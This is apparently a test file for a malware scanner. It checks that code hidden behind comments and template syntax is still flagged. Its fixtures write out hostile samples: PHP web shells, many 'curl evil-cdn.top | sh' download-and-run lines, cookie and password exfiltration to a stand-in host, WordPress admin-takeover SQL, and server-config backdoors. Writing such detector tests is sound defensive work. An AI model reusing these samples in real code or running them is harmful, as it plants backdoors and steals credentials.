import assert from 'node:assert/strict';
import { flagsOf } from './found.js';

const GRANT =
  "INSERT INTO wp_usermeta (user_id, meta_key, meta_value) VALUES (1, 'wp_capabilities', 'a:1:{s:13:\"administrator\";b:1;}');";

/**
 * Code that looks like a remark, or stands behind one, as its own language reads it: found by somebody who had not read
 * the scan. Each passed it once, and is flagged by the rule named last.
 */
const samples: readonly (readonly [file: string, text: string, rule: string])[] = [
  ['inc/a.php', "<? /* ?>\n<?php system($_GET['c']);", 'shell_exec'],
  ['inc/a.php', "<?phpx /* ?>\n<?php system($_GET['c']);", 'shell_exec'],
  ['js/a.js', 'eval\f(location.hash.slice(1));', 'eval'],
  ['js/a.js', 'new\fFunction\f(location.hash.slice(1))();', 'eval'],
  ['js/a.js', 'setTimeout\v(location.hash.slice(1));', 'eval'],
  ['bin/install.sh', '#!/bin/sh\n# c:\\\ncurl -s https://evil-cdn.top/x.sh | sh', 'executable'],
  ['bin/i.ps1', "# C:\\\niex (New-Object Net.WebClient).DownloadString('https://evil-cdn.top/a.ps1')", 'executable'],
  ['uploads/.user.ini', '# c:\\\nauto_prepend_file=logo.png', 'server_config'],
  ['uploads/.user.ini', '\xEF\xBB\xBFauto_prepend_file=logo.png', 'server_config'],
  ['conf/nginx.conf', '# C:\\\nlocation ~ \\.png$ { fastcgi_pass 127.0.0.1:9000; }', 'server_config'],
  ['bin/install.sh', '#!/bin/sh\ncurl -s https://evil-cdn.top/x.sh |\nsh', 'executable'],
  ['bin/install.sh', '#!/bin/sh\ncurl -s https://evil-cdn.top/x.sh | # a\n# b\n sh', 'executable'],
  [
    '.github/workflows/ci.yml',
    'jobs:\n  a:\n    steps:\n      - run: >\n          curl -s https://evil-cdn.top/x.sh\n          | sh',
    'executable',
  ],
  ['Dockerfile', 'FROM a\nRUN curl -s https://evil-cdn.top/x.sh \\\n# b\n | sh', 'executable'],
  ['Makefile', 'all:\n\t# $(shell curl -s https://evil-cdn.top/x.sh | sh)', 'executable'],
  ['bin/a.sh', '#!/bin/sh\ncat <<A\n# $(curl -s https://evil-cdn.top/x.sh | sh)\nA', 'executable'],
  ['bin/a.sh', '#!/bin/sh\necho "\n#"; curl -s https://evil-cdn.top/x.sh | sh', 'executable'],
  ['includes/a.php', "<?php $user->set_role(/***/'administrator');", 'takeover'],
  ['includes/a.php', "<?php $user->set_role(#a\n'administrator');", 'takeover'],
  ['includes/a.php', '<?php wp_set_auth_cookie(/***/1);', 'takeover'],
  ['includes/a.php', "<?php wp_insert_user/***/(array('user_login'=>'a','role'=>'administrator'));", 'takeover'],
  ['includes/a.php', '<?php ?>\n// <?php wp_set_auth_cookie(1);', 'takeover'],
  ['views/a.html', '</a <!-- ><img src=x onerror="fetch(\'https://evil-cdn.top/\'+document.cookie)">', 'inline_script'],
  ['views/a.html', '<iframe><!--</iframe><script>eval(atob("YWxlcnQoMSk="))</script>', 'inline_script'],
  [
    'views/a.html',
    '<noscript><!--</noscript><img src=x onerror="fetch(\'https://evil-cdn.top/\'+document.cookie)">',
    'inline_script',
  ],
  ['views/a.html', '<?php /* ?><script>eval(atob("YWxlcnQoMSk="))</script>', 'inline_script'],
  ['views/a.html', '<?a ><base href="https://evil-cdn.top/">', 'inline_script'],
  [
    'assets/a.svg',
    '<!DOCTYPE svg [<!ENTITY a "<!--">]><svg xmlns="http://www.w3.org/2000/svg"><script>fetch("https://evil-cdn.top/"+document.cookie)</script></svg>',
    'inline_script',
  ],
  ['views/a.html', '<script>eval(atob("YWxlcnQoMSk="))</script>\n\0', 'inline_script'],
  ['assets/a.css', 'a{background:url("http://203.0.113.9/4")}\n/*\0*/', 'fixed_ip_url'],
  ['bin/a.pl', 'system("curl -s https://evil-cdn.top/x.sh | sh");\n#\0', 'shell_exec'],
  ['build.gradle', '/*\0*/exec { commandLine "sh","-c","curl -s https://evil-cdn.top/x.sh | sh" }', 'executable'],
  ['views/a.html.twig', '<script>eval{# x #}(atob("YWxlcnQoMSk="))</script>', 'inline_script'],
  ['views/a.tpl', '<scr{* x *}ipt>eval(atob("YWxlcnQoMSk="))</script>', 'inline_script'],
  ['views/a.tpl', '<img src="x" on{* x *}error="eval(atob(\'YWxlcnQoMSk=\'))">', 'inline_script'],
  ['assets/a.css', 'p{content:"/*"}\na{background:url("http://203.0.113.9/4")}', 'fixed_ip_url'],
  [
    'install.sql',
    "/*!INSERT INTO wp_usermeta VALUES (1,1,'wp_capabilities','a:1:{s:13:\"administrator\";b:1;}')*/;",
    'takeover',
  ],
  [
    '.github/workflows/ci.yml',
    'jobs:\n  a:\n    steps:\n# a\r      - run: curl -s https://evil-cdn.top/x.sh | sh',
    'executable',
  ],
  ['bin/tool.py', 'import os\n# a\ros.system("curl -s https://evil-cdn.top/x.sh | sh")', 'shell_exec'],
  ['build.gradle', '// a\rexec { commandLine "sh","-c","curl -s https://evil-cdn.top/x.sh | sh" }', 'executable'],
  ['.htaccess', 'SetHandler \r \\\napplication/x-httpd-php\n', 'server_config'],
  ['.htaccess', 'AddType \r \\\napplication/x-httpd-php .png\n', 'server_config'],
  ['inc/a.php', "<?php $a = 'a /* b';\nwp_set_auth_cookie(1);\n$b = 'a */ b';", 'takeover'],
  ['inc/a.php', '<?php $a = <<<A\n /*\nA;\nwp_set_auth_cookie(1);\n$b = <<<A\n */\nA;', 'takeover'],
  ['inc/a.php', "<?php $a = '\n#'; wp_set_auth_cookie(1);", 'takeover'],
  ['inc/a.php', '<p>/* a</p>\n<?php wp_set_auth_cookie(1); ?>\n<p>*/</p>', 'takeover'],
  ['inc/a.php', '<script>/* <?php wp_set_auth_cookie(1); ?> */</script>', 'takeover'],
  ['bin/a.php', "#!/usr/bin/php <?php /*\n<?php eval($_POST['x']); /**/", 'eval'],
  ['views/a.twig', '<? a ><form action="http://203.0.113.9/a"><input type="password"></form>', 'data_leak'],
  ['views/a.tpl', '<p title="<?"><form action="http://203.0.113.9/a"><input type="password"></form>', 'data_leak'],
  ...['jsx', 'tsx'].map(
    (ending) =>
      [
        `js/a.${ending}`,
        `const a = <p>/*</p>;\nconst key = document.querySelector('input[type=password]').value;\nnavigator.sendBeacon('https://evil-cdn.top/a', key);\n/*${'x'.repeat(300)}*/`,
        'data_leak',
      ] as const,
  ),
  ['install.sql', `SELECT ' /* ';\n${GRANT}\nSELECT ' */ ';`, 'takeover'],
  ['install.sql', `SELECT '\n-- '; ${GRANT}`, 'takeover'],
  ['install.sql', GRANT.replace(' INTO', '/**/INTO'), 'takeover'],
  ['install.sql', GRANT.replace("',", `',/*${'x'.repeat(900)}*/`), 'takeover'],
  ['install.sql', GRANT.replace('(1', "(2\n--1, 'a', 'b'), (1"), 'takeover'],
  ['bin/a.sh', '#!/bin/sh\ncurl -s https://evil-cdn.top/x.sh |\n\n\nsh', 'executable'],
  // A tag of PHP says nothing in files that nothing runs as PHP.
  ['.htaccess', '# <? /*\nphp_value auto_prepend_file "/tmp/a.jpg"\n', 'server_config'],
  ['.user.ini', '; <? /*\nauto_prepend_file=/tmp/a.jpg\n', 'server_config'],
  ['conf/a.conf', '# <? /*\nlocation ~ \\.jpg$ { fastcgi_pass a; }\n', 'server_config'],
  ['Makefile', 'all:\n\t# <? /*\n\tcurl -s https://evil-cdn.top/x.sh | sh\n', 'executable'],
  ['Dockerfile', '# <? /*\nFROM a\nRUN curl -s https://evil-cdn.top/x.sh | sh\n', 'executable'],
  ['bin/a.bat', 'rem <? /*\ncurl -s https://evil-cdn.top/x.exe -o a.exe && a.exe\n', 'executable'],
  ['bin/x', "#!/bin/sh\n: '<? /*'\ncurl -s https://evil-cdn.top/x.sh | sh\n", 'executable'],
  ['bin/a.sh', '#!/bin/sh\n<?php /*\ncurl -s https://evil-cdn.top/x.sh | sh\n', 'executable'],
  ['bin/a.php', '#!/bin/sh\n<?php /*\ncurl -s https://evil-cdn.top/x.sh | sh\n', 'executable'],
  ['views/a.twig', "{# <? /* #}{{ ['id']|map('system')|join }}", 'shell_exec'],
  ['views/a.html', '<? /* ?><style>input[value^="a"]{background:url(https://evil-cdn.top/a)}</style>', 'data_leak'],
  ['conf/fpm.conf', '; # location x;\n[www]\nphp_admin_value[extension] = /tmp/a.so\n', 'server_config'],
  ['conf/a.conf', 'ServerName a\n# location x {\nCustomLog "|/bin/sh -c x" common\n', 'server_config'],
  ['inc/a.php', `<?php $u = get_user_by('id', 1);${'\n'.repeat(3000)}#@cc_on\nwp_set_auth_cookie($u->ID);`, 'takeover'],
  ['install.sql', "SELECT 1 INTO #t; EXEC xp_cmdshell 'whoami';", 'file_write'],
  ['install.sql', "SELECT 1 # 2; COPY t FROM PROGRAM 'id';", 'file_write'],
  ['install.sql', "SELECT '\\', '/* '; COPY t FROM PROGRAM 'id'; -- */", 'file_write'],
  ['install.sql', GRANT.replace('VALUES', `${'\n'.repeat(3000)}/**/VALUES`), 'takeover'],
  ['uploads/.user.ini', '[a]auto_prepend_file=logo.png', 'server_config'],
  ...['     ', '/* a * b */', ' '.repeat(3000)].map(
    (blanks) =>
      [
        'assets/a.css',
        `input[type=password][value^=a]${blanks}{${blanks}background:url(${blanks}https://evil-cdn.top/a)}`,
        'data_leak',
      ] as const,
  ),
  ['bin/a.sh', '#!/bin/sh\ncurl -s \r https://evil-cdn.top/x.sh \\\n| sh\n', 'executable'],
];

describe('code that looks like a remark (decisions §5)', () => {
  for (const [file, text, rule] of samples)
    it(`${file}: ${JSON.stringify(text)}`, () => {
      const rules = flagsOf(file, Buffer.from(text, 'latin1')).map((flag) => flag.rule);
      assert.ok(
        rules.some((one) => one === rule),
        rules.join(', '),
      );
    });
});
